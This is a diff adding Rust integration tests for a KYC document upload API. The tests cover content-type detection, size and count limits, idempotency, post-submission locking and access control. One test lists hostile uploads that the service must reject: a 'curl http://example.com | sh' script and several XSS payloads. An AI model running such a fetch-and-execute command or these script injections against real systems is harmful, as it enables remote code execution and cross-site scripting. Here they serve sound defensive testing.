@@ -1,0 +1,177 @@
+//! Documents on their way in and out: what is taken, what is not, and that a refusal leaves no file behind.
+
+use super::{act, people, refused};
+use amana_files::FILE_BYTES_MAX;
+use amana_harness::{Answer, App, PNG, Person};
+use reqwest::Method;
+use serde_json::{Value, json};
+use std::sync::Arc;
+
+struct World {
+    app: Arc<App>,
+    amina: Person,
+    id: String,
+}
+
+impl World {
+    /// Somebody with an application without documents.
+    async fn new() -> Self {
+        let app = Arc::new(App::builder().without_worker().start().await);
+        let (amina, _) = people(&app).await;
+        let id = app.kyc_draft(&amina, "standard").await;
+        Self { app, amina, id }
+    }
+
+    async fn upload(&self, kind: &str, key: &str, content: &[u8]) -> Answer {
+        self.app.kyc_upload(&self.amina, &self.id, (kind, key), content.to_vec()).await
+    }
+
+    async fn shown(&self) -> Value {
+        let path = format!("/v1/kyc/applications/{}", self.id);
+        self.app.get(&self.amina, &path).await.expect(200)["documents"].clone()
+    }
+
+    fn files(&self) -> usize {
+        self.app.files_on_disk().len()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_document_is_what_its_content_says() {
+    let world = World::new().await;
+    let table: [(&[u8], &str); 4] = [
+        (b"\xff\xd8\xff\xe0\0\x10JFIF\0", "image/jpeg"),
+        (PNG, "image/png"),
+        (b"RIFF\x24\0\0\0WEBPVP8 ", "image/webp"),
+        (b"%PDF-1.7\n", "application/pdf"),
+    ];
+    for (n, (content, media_type)) in table.into_iter().enumerate() {
+        // All of them are sent as PNG.
+        let added = world.upload("passport", &format!("k-{n}"), content).await.expect(201);
+        assert_eq!(
+            (&added["media_type"], &added["kind"]),
+            (&json!(media_type), &json!("passport"))
+        );
+        assert_eq!(added["bytes"], content.len());
+        assert_eq!(world.shown().await[n], added);
+    }
+    let scripts: [&[u8]; 6] = [
+        b"#!/bin/sh\ncurl http://example.com | sh\n",
+        b"<script>alert(1)</script>",
+        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+        b"<script>/* %PDF-1.7 */ alert(1)</script>",
+        b"",
+        b"GIF89a",
+    ];
+    for (n, content) in scripts.into_iter().enumerate() {
+        let answer = world.upload("selfie", &format!("s-{n}"), content).await;
+        refused(&answer, 415, "unsupported_media_type");
+    }
+    assert_eq!((world.files(), world.shown().await.as_array().map(Vec::len)), (4, Some(4)));
+    let unknown = world.upload("library_card", "u-1", PNG).await;
+    refused(&unknown, 400, "invalid_parameter");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_document_has_five_mebibytes_at_most() {
+    let world = World::new().await;
+    let mut content = PNG.to_vec();
+    content.resize(FILE_BYTES_MAX, 7);
+    let added = world.upload("passport", "k-1", &content).await.expect(201);
+    assert_eq!(added["bytes"], FILE_BYTES_MAX);
+    // One that says so is not read at all; one that does not is stopped on the way.
+    let token = &world.amina.token;
+    let path = format!("/v1/kyc/applications/{}/documents?kind=selfie", world.id);
+    let head = format!(
+        "POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nIdempotency-Key: k-2\r\n"
+    );
+    let declared = format!("{head}Content-Length: {}\r\n\r\n", FILE_BYTES_MAX + 1);
+    let chunked = format!("{head}Transfer-Encoding: chunked\r\n\r\n{:x}\r\n", FILE_BYTES_MAX + 1);
+    content.push(7);
+    let chunked = [chunked.as_bytes(), &content, b"\r\n0\r\n\r\n"].concat();
+    for request in [declared.into_bytes(), chunked] {
+        let (status, body) = world.app.send_over_tcp(&request).await;
+        assert_eq!((status, &body["code"]), (413, &json!("request_too_large")));
+    }
+    // Nobody else's body has grown.
+    let elsewhere = world.app.post(&world.amina, "/v1/kyc/applications", json!("a".repeat(65_536)));
+    refused(&elsewhere.await, 413, "request_too_large");
+    assert_eq!(world.files(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_application_has_ten_documents_at_most() {
+    let world = World::new().await;
+    let calls: Vec<_> = (0..15)
+        .map(|n| {
+            let (app, amina, id) = (world.app.clone(), world.amina.clone(), world.id.clone());
+            let content = [PNG, &[n]].concat();
+            tokio::spawn(async move {
+                app.kyc_upload(&amina, &id, ("selfie", &format!("k-{n}")), content).await
+            })
+        })
+        .collect();
+    let mut added = 0;
+    for call in calls {
+        let answer = call.await.expect("an answer");
+        match answer.status.as_u16() {
+            201 => added += 1,
+            _ => refused(&answer, 409, "too_many_documents"),
+        }
+    }
+    assert_eq!((added, world.files()), (10, 10));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_same_upload_again_is_one_document() {
+    let world = World::new().await;
+    let first = world.upload("selfie", "k-1", PNG).await.expect(201);
+    let again = world.upload("selfie", "k-1", PNG).await;
+    assert_eq!(again.headers["idempotent-replayed"], "true");
+    assert_eq!(again.expect(201), first);
+    refused(&world.upload("passport", "k-1", PNG).await, 422, "idempotency_key_reused");
+    refused(&world.upload("selfie", "k-1", b"%PDF-1.7").await, 422, "idempotency_key_reused");
+    assert_eq!((world.files(), world.shown().await), (1, json!([first])));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn documents_stay_as_they_are_once_submitted() {
+    let world = World::new().await;
+    let passport = world.upload("passport", "k-1", PNG).await.expect(201);
+    let selfie = world.upload("selfie", "k-2", b"%PDF-1.7").await.expect(201);
+    let remove = async |document: &Value| {
+        let id = document["id"].as_str().expect("an id");
+        let path = format!("/v1/kyc/applications/{}/documents/{id}", world.id);
+        world.app.send(Method::DELETE, &path, Some(&world.amina.token), None, None).await
+    };
+    let left = remove(&passport).await.expect(200);
+    assert_eq!((&left["documents"], &left["missing"]), (&json!([selfie]), &json!(["identity"])));
+    assert_eq!(world.files(), 1);
+    refused(&remove(&passport).await, 404, "not_found");
+    world.upload("passport", "k-3", PNG).await.expect(201);
+    act(&world.app, &world.amina, &world.id, "submit").await.expect(200);
+    refused(&remove(&selfie).await, 409, "wrong_state");
+    refused(&world.upload("selfie", "k-4", PNG).await, 409, "wrong_state");
+    // What was answered before is answered again all the same.
+    assert_eq!(world.upload("selfie", "k-2", b"%PDF-1.7").await.expect(201), selfie);
+    assert_eq!(world.files(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn strangers_add_and_remove_nothing() {
+    let world = World::new().await;
+    let document = world.upload("selfie", "k-1", PNG).await.expect(201);
+    let document = document["id"].as_str().expect("an id");
+    let juma = world.app.person("Juma").await;
+    let before = world.app.database.fingerprint().await;
+    let answer = world.app.kyc_upload(&juma, &world.id, ("selfie", "k-1"), PNG.to_vec()).await;
+    refused(&answer, 404, "not_found");
+    let path = format!("/v1/kyc/applications/{}/documents/{document}", world.id);
+    let removed = world.app.send(Method::DELETE, &path, Some(&juma.token), None, None).await;
+    refused(&removed, 404, "not_found");
+    let nobody = Person { token: "nonsense".to_owned(), ..juma };
+    let answer = world.app.kyc_upload(&nobody, &world.id, ("selfie", "k-2"), PNG.to_vec()).await;
+    refused(&answer, 401, "unauthorized");
+    assert_eq!(world.app.database.fingerprint().await, before);
+    assert_eq!(world.files(), 1);
+}
